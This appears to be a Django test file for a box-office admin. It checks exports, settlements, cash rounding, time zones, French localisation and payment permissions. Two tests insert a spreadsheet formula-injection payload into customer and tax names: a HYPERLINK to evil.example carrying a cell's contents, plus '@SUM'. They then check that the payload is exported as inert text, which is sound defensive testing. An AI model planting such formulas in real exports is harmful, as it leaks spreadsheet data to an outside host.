    orders = Order.objects.filter(performance=sales).order_by("pk")
    formula, bell = '=HYPERLINK("http://evil.example/?"&B2,"Verify")', "Bell\x07man\x1b"
    Customer.objects.filter(pk=orders[0].customer_id).update(name=formula)
    Order.objects.filter(customer_id=orders[0].customer_id).update(buyer_name=formula)
    Customer.objects.filter(pk=orders[1].customer_id).update(name=bell, phone="+1 514 555 0100")
    Order.objects.filter(customer_id=orders[1].customer_id).update(buyer_name=bell, buyer_phone="+1 514 555 0100")
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    for kind in ("orders", "tickets", "customers"):
        cells = [c for row in _csv(admin.get(url, {"kind": kind, "format": "csv", "performance": sales.pk}))
                 for c in row]
        assert "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Verify\")" in cells, kind
        assert not any(c.startswith(("=", "+", "@")) for c in cells), kind
        response = admin.get(url, {"kind": kind, "format": "xlsx", "performance": sales.pk})
        assert response.status_code == 200, kind
        book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        values = [c for row in book.active.iter_rows() for c in row]
        named = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert named and all(c.data_type == "s" for c in named), kind  # text, not a formula
        assert any(c.value == "Bellman" for c in values), kind


def test_the_settlement_csv_writes_an_organizers_formula_as_text(organizer):
    """Tax names and registration numbers are typed by organizers, and the settlement goes
    to a promoter who opens it in a spreadsheet: a formula there is shown as text, as in
    the other exports; amounts, refunds' negative ones included, stay numbers."""
    from sales.models import TaxRate

    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Verify")'
    TaxRate.objects.filter(name="GST").update(name=formula, registration="+1-555-0100")
    TaxRate.objects.filter(name="QST").update(registration="@SUM(A1:A9)")
    sold = sell(perf, 2)[0].order
    order_refund(order=sold, actor=organizer)
    sell(perf, 1, name="Paul Roy", email="paul@example.org")
    rows = list(csv.reader(io.StringIO(signed_in(organizer).get(
        f"/admin/sales/performancedashboard/settlement/{perf.event_id}.csv").content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + formula in cells and "'+1-555-0100" in cells and "'@SUM(A1:A9)" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    refunded = next(row for row in rows if row and row[0] == "Total" and len(row) == 4)[2]
    assert refunded.startswith("-") and Decimal(refunded) < 0  # a number, not text


def test_the_settlement_pdf_names_each_performance_whole_and_writes_amounts_as_its_reader_does(organizer):
    """A long venue name is wrapped, not cut; a French organizer reads 1 234,50, not 1234.50;
    and no heading is wider than its column, a long word included."""
    perf = make_performance(rows=1, per_row=40, price="1234.50")
    perf.venue.name = "Théâtre du Petit Champlain, salle Gilles-Vigneault"
    perf.venue.save()
    sell(perf, 1)
    admin = signed_in(organizer)
    url = f"/admin/sales/performancedashboard/settlement/{perf.event_id}.pdf"
    english = pdf_text(admin.get(url, HTTP_ACCEPT_LANGUAGE="en").content).decode("cp1252")
    french = pdf_text(admin.get(url, HTTP_ACCEPT_LANGUAGE="fr").content).decode("cp1252")
    for word in ("Petit", "Champlain,", "salle", "Gilles-Vigneault"):
        assert f"({word}" in english or f" {word}" in english, word
    assert "(1,234.50)" in english and "(1 234,50)" in french
    from reportlab.lib.units import mm
    from reportlab.pdfbase.pdfmetrics import stringWidth

    from sales.settlement import _columns, _heading_size, _tax_columns

    for language in ("en", "fr"):
        with translation.override(language):
            for heading in [*_columns()[1:], *_tax_columns()[2:]]:
                size = _heading_size(heading)
                assert all(stringWidth(word, "Helvetica-Bold", size) <= 19 * mm for word in heading.split()), heading


def test_the_admin_names_staff_without_a_link_an_organizer_cannot_follow(sales, organizer, clerk):
    """An order's payments and audit trail, a shift and a place's trail name the clerk; the
    user's own admin page is the superuser's, so the name is text, not a link that answers
    an organizer "Not your page"."""
    admin = signed_in(organizer)
    order = Order.objects.get(performance=sales, channel="counter")
    shift = Shift.objects.get(clerk=clerk)
    payment = order.payments.first()
    place = order.tickets.first().place
    for url in (f"/admin/sales/order/{order.pk}/change/", f"/admin/sales/shift/{shift.pk}/change/",
                f"/admin/sales/payment/{payment.pk}/change/", f"/admin/sales/place/{place.pk}/change/"):
        page = admin.get(url)
        assert page.status_code == 200, url
        html = page.content.decode()
        assert "/admin/auth/user/" not in html and "<select" not in html.split('id="content"')[1], url
        assert f">{clerk.username}<" in html, url


def test_cash_rounded_to_the_nickel_is_what_the_drawer_report_and_exports_expect(clerk, organizer):
    """Cash changes hands to the nearest five cents: a ticket at 10.02 is 10.00 in the
    drawer, two at 10.03 (20.06) are 20.05, and a cash refund of the 10.02 hands back
    10.00. The shift's expected drawer, the payments export and the payments list give the
    cash as the drawer holds it; the dashboard keeps the takings exact and gives the
    rounding on a line of its own."""
    perf = make_performance(rows=2, per_row=4, price="10.02", on_sale=False)
    PriceZoneFactory(performance=perf, name="Front", price=Decimal("10.03"),
                     seats=perf.venue.sections.get().seats.filter(row="A"))
    inventory.put_on_sale(performance=perf)
    shift = shift_open(clerk=clerk, cash_float=Decimal("100"))
    walk_in = CustomerDetails(name="Walk in", email="w@example.org")
    orders = []
    for zone, n, tendered in (("Stalls", 1, "20"), ("Front", 2, "20.05")):
        hold = hold_create(performance=perf, channel=Channel.COUNTER, user=clerk,
                           zone=perf.price_zones.get(name=zone), quantity=n)
        orders.append(order_place(hold=hold, customer=walk_in, actor=clerk, shift=shift,
                                  payments=[PaymentRequest(method="cash", tendered=Decimal(tendered))]))
    assert [o.total for o in orders] == [Decimal("10.02"), Decimal("20.06")]
    order_refund(order=orders[0], actor=clerk, shift=shift)
    # In the drawer: 100 + 10.00 + 20.05 - 10.00.
    closed = shift_close(shift=shift, clerk=clerk, counted_cash=Decimal("120.05"), counted_card=Decimal("0"))
    assert closed.expected["cash"] in ("120.05", Decimal("120.05")) and closed.difference == 0

    # The dashboard: the takings as recorded, to the cent, and the rounding apart.
    board = performance_dashboard(perf)
    assert {label: (t, r) for label, t, r in board.by_method} == {"Cash": (Decimal("30.08"), Decimal("-10.02"))}
    assert board.net == Decimal("20.06")
    assert (board.cash_rounding_taken, board.cash_rounding_refunded) == (Decimal("-0.03"), Decimal("0.02"))
    assert board.net + board.cash_rounding_taken + board.cash_rounding_refunded == Decimal("20.05")
    admin = signed_in(organizer)
    page = admin.get(f"/admin/sales/performancedashboard/{perf.pk}/change/").content.decode()
    from tests.support import table_rows
    rows = table_rows(page, 'id="by-method"')
    assert rows[-1] == ["Cash rounding to the coin (what the drawers took beyond the amounts above)",
                        "\u2212$0.03", "$0.02"], rows
    assert rows[-2] == ["Total", "$30.08", "\u2212$10.02"], rows
    french = admin.get(f"/admin/sales/performancedashboard/{perf.pk}/change/",
                       headers={"accept-language": "fr"}).content.decode()
    assert table_rows(french, 'id="by-method"')[-1] == [
        "Arrondi des espèces à la pièce (ce que les tiroirs-caisses ont reçu au-delà des montants ci-dessus)",
        "\u22120,03\u00a0$", "0,02\u00a0$"]

    # The payments export: each cash row as it changed hands beside its amount, adding up
    # to what the drawer took.
    url = "/admin/sales/performancedashboard/exports/"
    for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
        rows = read(admin.get(url, {"kind": "payments", "format": fmt, "performance": perf.pk}))
        header, body = rows[0], rows[1:]
        amount, cash = header.index("Amount"), header.index("Cash, rounded to the coin")
        assert [(Decimal(str(r[amount])), Decimal(str(r[cash]))) for r in body] == [
            (Decimal("10.02"), Decimal("10.00")), (Decimal("20.06"), Decimal("20.05")),
            (Decimal("-10.02"), Decimal("-10.00"))], fmt
        assert sum(Decimal(str(r[cash])) for r in body) == Decimal("120.05") - closed.cash_float
    french_header = _csv(signed_in(organizer).get(url, {"kind": "payments", "format": "csv"},
                                                  headers={"accept-language": "fr"}), ";")[0]
    assert "Espèces, arrondies à la pièce" in french_header

    # The payments list, cash only: the amounts recorded and what the drawers took beside them.
    listed = unescape(admin.get("/admin/sales/payment/", {"method__exact": "cash"}).content.decode())
    assert "Taken by the listed payments: $30.08; paid back: \u2212$10.02; net: $20.06." in listed
    assert ('id="cash-rounding">Cash rounding to the coin: the drawers took \u2212$0.01 beyond the amounts above. '
            'In cash, the listed payments moved $20.05, to the coin.<') in listed, listed


def test_an_export_in_french_opens_in_columns_in_a_french_spreadsheet(sales, organizer):
    """French spreadsheets read "," as the decimal mark and ";" between cells: an export
    asked in French is written so (amounts 50,00), in UTF-8 with its mark so that accents
    open as typed; in English it stays "," and "."."""
    admin = signed_in(organizer)
    sell(sales, 1, name="Hélène Côté", email="hc@example.org")
    url = "/admin/sales/performancedashboard/exports/"
    moved = sum(p.amount for p in Payment.objects.filter(MONEY_MOVED, order__performance=sales))

    def parsed(raw: bytes, separator: str) -> list[list[str]]:
        assert raw.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=separator))
        assert len({len(r) for r in rows if r}) <= 2 and len(rows[0]) > 1  # columns, not one
        return rows

    def amounts(rows, column, mark):
        at = rows[0].index(column)
        cells = [r[at] for r in rows[1:]]
        assert all(re.fullmatch(rf"-?\d+{re.escape(mark)}\d\d", c) for c in cells), cells
        return sum(Decimal(c.replace(",", ".")) for c in cells)

    french = {"HTTP_ACCEPT_LANGUAGE": "fr"}
    payments = parsed(b"".join(admin.get(url, {"kind": "payments", "format": "csv", "performance": sales.pk},
                                         **french).streaming_content), ";")
    assert amounts(payments, "Montant", ",") == moved
    orders = parsed(b"".join(admin.get(url, {"kind": "orders", "format": "csv", "performance": sales.pk},
                                       **french).streaming_content), ";")
    assert "Hélène Côté" in {r[orders[0].index("Nom")] for r in orders[1:]}
    assert amounts(orders, "Total", ",") == sum(o.total for o in Order.objects.filter(performance=sales))
    english = parsed(b"".join(admin.get(url, {"kind": "payments", "format": "csv", "performance": sales.pk})
                              .streaming_content), ",")
    assert amounts(english, "Amount", ".") == moved

    settlement = f"/admin/sales/performancedashboard/settlement/{sales.event_id}.csv"
    s = event_settlement(sales.event)
    rows = list(csv.reader(io.StringIO(admin.get(settlement, **french).content.decode("utf-8-sig")), delimiter=";"))
    assert rows[-1][0] == "Total" and rows[-1][1:] == [
        str(v).replace(".", ",") for v in (s.total.taken, s.total.refunded, s.total.net)]
    assert admin.get(settlement, **french).content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(admin.get(settlement).content.decode("utf-8-sig"))))
    assert rows[-1] == ["Total", str(s.total.taken), str(s.total.refunded), str(s.total.net)]


def test_the_event_board_shows_what_refunds_kept_so_that_its_columns_make_the_net(organizer):
    """A refund keeps the tickets' fees that are not refundable: the money holds them beyond
    the tickets still sold. The event's board lists them in a column of their own, as its
    settlement does, so that ticket sales, fees per order and the fees kept make the net."""
    from tests.support import table_rows

    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    booking_fee(Channel.ONLINE, per_ticket="2.50", per_order="1.00")
    kept = sell(perf, 2)[0].order
    sell(perf, 1, name="Paul Roy", email="paul@example.org")
    order_refund(order=kept, actor=organizer)
    line, = event_settlement(perf.event).performances
    assert line.kept > 0
    page = signed_in(organizer).get(f"/admin/sales/performancedashboard/event/{perf.event_id}/").content.decode()
    header, row, total = table_rows(page, 'id="event-performances"')
    cells = dict(zip(header, row, strict=True))
    assert cells.get("Fees kept") == money(line.kept), header

    def amount(text):
        return Decimal(text.replace("$", "").replace(",", "").replace("\u2212", "-"))

    assert (amount(cells["Ticket sales"]) + amount(cells["Fees per order"])
            + amount(cells["Fees kept"])) == amount(cells["Net"]) == line.net


def test_sold_in_the_last_minute_counts_sales_not_refunds_and_exchanges(organizer, clerk):
    """During an on-sale the board says how many tickets were sold in the last minute. An
    exchange (one ticket given back, one issued) is no sale, and a ticket refunded is not
    sold: the figure never says more were sold in the last minute than are sold at all."""
    from sales.orders import order_exchange, tickets_refund

    perf = make_performance(rows=1, per_row=6, price="40.00")
    sold = sell(perf, 3)
    order = sold[0].order
    tickets_refund(order=order, ticket_ids=[sold[0].pk], actor=organizer)
    hold = hold_create(performance=perf, channel=Channel.COUNTER, user=clerk,
                       place_ids=[Place.objects.filter(performance=perf, state="available").order_by("pk").last().pk])
    order_exchange(order=order, ticket_ids=[sold[1].pk], hold=hold, actor=clerk)  # the same price
    live = signed_in(organizer).get(f"/admin/sales/performancedashboard/{perf.pk}/change/", {"live": "1"}).json()
    assert live["sold"] == 2
    assert live["sold_last_minute"] == 2, live


def test_the_customers_export_in_french_names_its_columns_for_a_customer_and_an_amount(sales, organizer):
    """"Created" and "Paid" head the orders export too, where French writes them for an
    order (Créée, Payée: feminine). A customer is masculine and "Paid" there is an amount:
    Créé, Payé."""
    raw = b"".join(signed_in(organizer).get("/admin/sales/performancedashboard/exports/",
                                            {"kind": "customers", "format": "csv", "performance": sales.pk},
                                            HTTP_ACCEPT_LANGUAGE="fr").streaming_content)
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert header == ["Nom", "Courriel", "Téléphone", "Créé", "Commandes payées", "Payé",
                      "Fuseau horaire des heures"], header


def test_the_customers_export_and_the_settlement_name_the_clock_of_their_times(organizer):
    """As the orders, tickets and payments exports do, the customers export says on which
    clock its "Created" is written (the venue's, narrowed to a performance; the box
    office's otherwise), and the settlement on which its "Made" is (its venue's)."""
    from events.models import Venue

    paris = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=paris.venue_id).update(time_zone="Europe/Paris")
    order = sell(paris, 1)[0].order
    Customer.objects.filter(pk=order.customer_id).update(created_at=datetime(2026, 3, 10, 23, 30, tzinfo=UTC))
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    for where, zone, created in (({"performance": paris.pk}, "Europe/Paris", "2026-03-11 00:30:00"),
                                 ({}, "America/Toronto", "2026-03-10 19:30:00")):
        rows = _csv(admin.get(url, {"kind": "customers", "format": "csv", **where}))
        assert rows[0][-1] == "Time zone of the times", rows[0]
        row, = rows[1:]
        assert (row[rows[0].index("Created")], row[-1]) == (created, zone), rows

    made = datetime(2026, 3, 10, 23, 30, tzinfo=UTC)
    rows = list(csv.reader(io.StringIO(admin.get(
        f"/admin/sales/performancedashboard/settlement/{paris.event_id}.csv").content.decode("utf-8-sig"))))
    assert rows[1][0] == "Made" and rows[2] == ["Time zone of the times", "Europe/Paris"], rows[:3]
    s = event_settlement(paris.event, now=made)
    assert (s.made_at.strftime("%Y-%m-%d %H:%M"), s.made_at.tzinfo.key) == ("2026-03-11 00:30", "Europe/Paris")
    french = list(csv.reader(io.StringIO(admin.get(
        f"/admin/sales/performancedashboard/settlement/{paris.event_id}.csv",
        HTTP_ACCEPT_LANGUAGE="fr").content.decode("utf-8-sig")), delimiter=";"))
    assert french[1][0] == "Établi" and french[2] == ["Fuseau horaire des heures", "Europe/Paris"], french[:3]


def test_the_payments_and_performances_by_day_are_on_the_venues_clock(organizer):
    """A payment taken at 00:30 in Paris is one of that day's there, though on the box
    office's clock (Toronto) it is still the evening before; a show at 22:30 in Vancouver
    is that day's, though 01:30 the next day in Toronto. The lists' days, and the days they
    drill down to, are the venue's, as their rows' times are: when every listed row is of
    one clock (the list narrowed to a performance, or every venue on one clock)."""
    from events.models import Venue

    paris = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=paris.venue_id).update(time_zone="Europe/Paris")
    order = sell(paris, 1)[0].order
    Payment.objects.filter(order=order).update(created_at=datetime(2026, 3, 10, 23, 30, tzinfo=UTC))
    admin = signed_in(organizer)
    march = {"created_at__year": "2026", "created_at__month": "3"}
    listed = admin.get("/admin/sales/payment/", march).content.decode()
    assert "created_at__day=11" in listed and "created_at__day=10" not in listed, listed
    assert order.code in admin.get("/admin/sales/payment/", {**march, "created_at__day": "11"}).content.decode()
    assert order.code not in admin.get("/admin/sales/payment/", {**march, "created_at__day": "10"}).content.decode()

    # Another venue on another clock: the list narrowed to the performance keeps Paris's days.
    vancouver = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=vancouver.venue_id).update(time_zone="America/Vancouver")
    narrowed = {**march, "order__performance__id__exact": str(paris.pk)}
    assert "created_at__day=11" in admin.get("/admin/sales/payment/", narrowed).content.decode()
    assert order.code in admin.get("/admin/sales/payment/", {**narrowed, "created_at__day": "11"}).content.decode()

    type(vancouver).objects.filter(pk=vancouver.pk).update(starts_at=datetime(2026, 3, 11, 5, 30, tzinfo=UTC))
    shows = {"starts_at__year": "2026", "starts_at__month": "3", "venue__id__exact": str(vancouver.venue_id)}
    boards = admin.get("/admin/sales/performancedashboard/", shows).content.decode()
    assert "starts_at__day=10" in boards and "starts_at__day=11" not in boards, boards
    on_the_day = admin.get("/admin/sales/performancedashboard/", {**shows, "starts_at__day": "10"}).content.decode()
    assert f"/admin/sales/performancedashboard/{vancouver.pk}/change/" in on_the_day


def test_an_export_of_every_performance_takes_each_rows_days_on_its_venues_clock(organizer):
    """A sale at 00:30 in Paris on 11 March is written 2026-03-11 00:30 in the file, on its
    venue's clock: an export of every performance for 11 March has it, and one for 10 March
    (still its day in Toronto, the box office's clock) does not. A Toronto venue's sale at
    the same moment is of 10 March, as its row says."""
    from events.models import Venue

    moment = datetime(2026, 3, 10, 23, 30, tzinfo=UTC)  # Paris 00:30 on the 11th, Toronto 19:30 on the 10th
    codes = {}
    for name, zone in (("paris", "Europe/Paris"), ("toronto", "America/Toronto")):
        perf = make_performance(rows=1, per_row=2)
        Venue.objects.filter(pk=perf.venue_id).update(time_zone=zone)
        order = sell(perf, 1)[0].order
        for model in (Order, Payment, Ticket):
            model.objects.filter(**({"pk": order.pk} if model is Order else {"order": order})).update(
                created_at=moment)
        codes[name] = order.code
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    for kind in ("orders", "payments", "tickets"):
        for day, listed, left_out in (("2026-03-11", "paris", "toronto"), ("2026-03-10", "toronto", "paris")):
            rows = _csv(admin.get(url, {"kind": kind, "format": "csv", "date_from": day, "date_to": day}))
            cells = {cell for row in rows[1:] for cell in row}
            assert codes[listed] in cells and codes[left_out] not in cells, (kind, day, rows)
    # The form says on which clock its days are.
    assert "on the clock of each performance" in admin.get(url).content.decode()


def test_an_export_of_people_is_for_whoever_may_read_them(sales):
    """Who may read the takings (payments, dashboards) but not the buyers (customers,
    orders, tickets) downloads the payments, and no export naming the buyers: the form
    offers none, and a link to one is refused as the form's error."""
    from django.contrib.auth.models import Permission

    accountant = make_user("accountant", is_staff=True)
    accountant.user_permissions.add(*Permission.objects.filter(
        codename__in=["view_performancedashboard", "view_payment"]))
    books = signed_in(accountant)
    url = "/admin/sales/performancedashboard/exports/"
    assert len(_csv(books.get(url, {"kind": "payments", "format": "csv", "performance": sales.pk}))) == 5
    for kind in ("customers", "orders", "tickets"):
        refused = books.get(url, {"kind": kind, "format": "csv", "performance": sales.pk})
        assert not isinstance(refused, StreamingHttpResponse), kind
        page = refused.content.decode()
        assert "Select a valid choice" in page and "@example.org" not in page, kind
        assert f'value="{kind}"' not in page, kind
    dashboard = books.get(f"/admin/sales/performancedashboard/{sales.pk}/change/").content.decode()
    assert "kind=payments" in dashboard and "kind=customers" not in dashboard


def test_exports_and_the_settlement_are_refused_on_the_admins_page_without_the_payments(sales):
    """Every export and the settlement carry amounts (totals, prices, what a customer paid):
    staff who may read the orders, tickets and customers but not the payments are refused
    them with a 403 page of the admin saying why, and given no row; with the payments'
    permission the same links download the files."""
    from django.contrib.auth.models import Permission

    manager = make_user("house-manager", is_staff=True)
    manager.user_permissions.add(*Permission.objects.filter(codename__in=[
        "view_performancedashboard", "view_order", "view_ticket", "view_customer"]))
    office = signed_in(manager)
    base = "/admin/sales/performancedashboard/"
    asked = [(f"{base}exports/", {"kind": kind, "format": fmt, "performance": sales.pk})
             for kind in ("orders", "tickets", "customers", "payments") for fmt in ("csv", "xlsx")]
    asked += [(f"{base}settlement/{sales.event_id}.{fmt}", {}) for fmt in ("csv", "pdf")]
    asked += [(f"{base}exports/", {}), (f"{base}event/{sales.event_id}/", {})]
    for url, query in asked:
        refused = office.get(url, query)
        assert refused.status_code == 403 and not isinstance(refused, StreamingHttpResponse), (url, query)
        page = unescape(refused.content.decode())
        assert 'id="site-name"' in page and 'id="user-tools"' in page, page  # the admin's header, signed in
        assert "Exports and settlements carry amounts of money: they are for staff who may view payments." in page
        assert "@example.org" not in page and "50.00" not in page
    french = unescape(office.get(f"{base}exports/", headers={"accept-language": "fr"}).content.decode())
    assert "réservés au personnel qui peut consulter les paiements" in french

    manager.user_permissions.add(Permission.objects.get(codename="view_payment"))
    office = signed_in(manager)
    orders = _csv(office.get(f"{base}exports/", {"kind": "orders", "format": "csv", "performance": sales.pk}))
    assert "jt@example.org" in {cell for row in orders for cell in row}
    assert office.get(f"{base}settlement/{sales.event_id}.csv").status_code == 200


def test_the_dashboards_takings_are_for_whoever_may_read_the_payments(sales):
    """Who may open the dashboard but not read the payments sees what sold (places, tickets
    by channel and by day) and no amount of money, and is told why; with the payments'
    permission the same page shows the takings."""
    from django.contrib.auth.models import Permission

    door_manager = make_user("door-manager", is_staff=True)
    door_manager.user_permissions.add(Permission.objects.get(codename="view_performancedashboard"))
    url = f"/admin/sales/performancedashboard/{sales.pk}/change/"
    page = unescape(signed_in(door_manager).get(url).content.decode())
    assert 'id="figure-sold">3<' in page and 'id="by-channel"' in page and 'id="by-day"' in page
    for amount in ("150.00", "250.00", "100.00", "50.00"):  # net, taken, refunded, a ticket's price
        assert amount not in page, amount
    assert 'id="by-method"' not in page and "/settlement/" not in page and "/event/" not in page
    assert "Takings, refunds, fees and taxes are shown to staff who may view payments." in page
    french = signed_in(door_manager).get(url, headers={"accept-language": "fr"}).content.decode()
    assert "50,00" not in french and "Les recettes" in french

    door_manager.user_permissions.add(Permission.objects.get(codename="view_payment"))
    page = unescape(signed_in(door_manager).get(url).content.decode())
    assert f'id="figure-net">{money(Decimal("150.00"))}<' in page and 'id="by-method"' in page
    assert "Takings, refunds, fees and taxes are shown to staff who may view payments." not in page


def test_the_dashboards_chart_writes_its_days_as_the_reader_does_on_the_venues_clock(organizer):
    """The chart's days are the by-day table's: on the venue's clock (a sale at 22:30 in
    Vancouver is that day's, though the next day in UTC) and written as the reader's
    language writes a day, not as ISO dates."""
    import json

    from events.models import Venue

    perf = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=perf.venue_id).update(time_zone="America/Vancouver")
    order = sell(perf, 1)[0].order
    sold_at = datetime(2025, 12, 8, 6, 30, tzinfo=UTC)  # Sunday 7 December, 22:30, in Vancouver
    Payment.objects.filter(order=order).update(created_at=sold_at)
    Ticket.objects.filter(order=order).update(created_at=sold_at)
    admin = signed_in(organizer)
    for language, day in (("en", "Sun 7 Dec 2025"), ("fr", "dim 7 décembre 2025")):
        page = admin.get(f"/admin/sales/performancedashboard/{perf.pk}/change/",
                         headers={"accept-language": language}).content.decode()
        chart = json.loads(re.search(r'<script id="sales-chart-data" type="application/json">(.*?)</script>',
                                     page, re.S)[1])
        assert chart["labels"] == [day] and chart["tickets"] == [1], chart
        assert "2025-12-0" not in page


@pytest.mark.parametrize(("language", "said"), [
    ("en", "Salle du Quai: net today"), ("fr", "Salle du Quai\u00a0: net aujourd’hui"),
])
def test_the_dashboards_takings_today_name_the_venue_whatever_its_name(organizer, language, said):
    """The tile of today's takings names the venue as it is named, with no word of its own
    before it: a venue called "Salle du Quai" is not the "salle Salle du Quai"."""
    from events.models import Venue

    perf = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=perf.venue_id).update(name="Salle du Quai")
    sell(perf, 1)
    page = unescape(signed_in(organizer).get(f"/admin/sales/performancedashboard/{perf.pk}/change/",
                                             headers={"accept-language": language}).content.decode())
    tile = re.search(r'<div>([^<]*)<strong id="today-net">', page)[1]
    assert tile == said


def test_a_counter_sale_to_nobody_in_particular_exports_no_email_address(clerk, organizer):
    """A walk-in at the counter (a name given, no address) is kept under the counter's own
    address, nobody's mailbox: the orders and tickets exports leave its email empty, as the
    customers export leaves the walk-in out, rather than hand a mailing list a made-up one."""
    from sales.formatting import WALK_IN_EMAIL

    perf = make_performance(rows=1, per_row=4, price="50.00")
    shift = shift_open(clerk=clerk, cash_float=Decimal("100"))
    for name in ("", "Luc"):
        hold = hold_create(performance=perf, channel=Channel.COUNTER, user=clerk, zone=perf.price_zones.get(),
                           quantity=1)
        order_place(hold=hold, customer=CustomerDetails(name=name, email=""), actor=clerk, shift=shift,
                    payments=[PaymentRequest(method="cash", tendered=Decimal("60"))])
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    for kind in ("orders", "tickets"):
        rows = _csv(admin.get(url, {"kind": kind, "format": "csv", "performance": perf.pk}))
        header, body = rows[0], rows[1:]
        assert len(body) == 2, kind
        assert sorted(r[header.index("Name")] for r in body) == ["Counter customer", "Luc"], kind
        assert [r[header.index("Email")] for r in body] == ["", ""], (kind, body)
        assert all(WALK_IN_EMAIL not in cell for r in body for cell in r), kind


def test_a_list_across_venues_names_the_clock_of_a_time_on_another(organizer, settings):
    """The payments and orders of every venue, listed together, are each on its venue's
    clock; one on a clock other than the box office's (the shifts' and the list's days)
    says which, as the counter does ("14:05 PDT"): a Vancouver sale at 14:05 is not listed
    as if it came before a Toronto one at 16:00. Narrowed to the Vancouver performance, the
    whole list is on its clock, named once above it."""
    from events.models import Venue

    settings.TIME_ZONE = "America/Toronto"
    toronto = make_performance(rows=1, per_row=2)
    vancouver = make_performance(rows=1, per_row=2)
    Venue.objects.filter(pk=vancouver.venue_id).update(time_zone="America/Vancouver")
    here = sell(toronto, 1)[0].order
    there = sell(vancouver, 1)[0].order
    moment = datetime(2026, 3, 10, 21, 5, tzinfo=UTC)  # 17:05 in Toronto, 14:05 in Vancouver
    for order in (here, there):
        Payment.objects.filter(order=order).update(created_at=moment)
        Order.objects.filter(pk=order.pk).update(created_at=moment)
    admin = signed_in(organizer)
    for url in ("/admin/sales/payment/", "/admin/sales/order/"):
        page = unescape(admin.get(url).content.decode())
        assert "Tue 10 Mar 2026 14:05 PDT" in page, url
        assert "Tue 10 Mar 2026 17:05<" in page and "17:05 EDT" not in page, url
    narrowed = unescape(admin.get("/admin/sales/payment/", {"order__performance__id__exact": vancouver.pk})
                        .content.decode())
    assert "Tue 10 Mar 2026 14:05<" in narrowed and "PDT" not in narrowed
    assert "Times on the clock of the venue (America/Vancouver)" in narrowed


def test_the_exports_page_reads_as_the_admins_other_forms(organizer):
    """The page names every kind its list offers, sits under its app as the admin's other
    pages do, writes each help under its own box, and says days the wrong way round in a
    sentence a reader would write, in French as in English."""
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    page = unescape(admin.get(url).content.decode())
    intro = page[page.find('id="exports"'):][:600]
    assert "customers" in intro, intro
    crumbs = page[page.find('class="breadcrumbs"'):][:800]
    assert 'href="/admin/sales/"' in crumbs and 'href="/admin/sales/performancedashboard/"' in crumbs, crumbs
    # The help is the box's own: under it, named by it, not run on after it.
    box = re.search(r'<input[^>]*name="date_from"[^>]*>', page).group()
    assert 'aria-describedby="id_date_from_helptext"' in box, box
    assert re.search(r'<div class="help"[^>]*id="id_date_from_helptext"', page), page
    backwards = {"kind": "payments", "format": "csv", "date_from": "2026-12-10", "date_to": "2026-12-01"}
    assert "The last day cannot come before the first." in admin.get(url, backwards).content.decode()
    admin.cookies["django_language"] = "fr"
    french = unescape(admin.get(url, backwards).content.decode())
    assert "Le dernier jour ne peut pas précéder le premier." in french
    assert "Quoi\u00a0:" in french or "Quoi :" in french


def test_the_exports_help_says_whose_clock_a_performances_customers_are_on(organizer):
    """A performance's customers are exported on its venue's clock (customer_rows); only
    customers of every performance are on the box office's."""
    page = unescape(signed_in(organizer).get("/admin/sales/performancedashboard/exports/").content.decode())
    helps = page[page.find('id="id_date_from_helptext"'):][:600]
    assert "customers of a performance chosen above: its venue's" in helps.lower(), helps
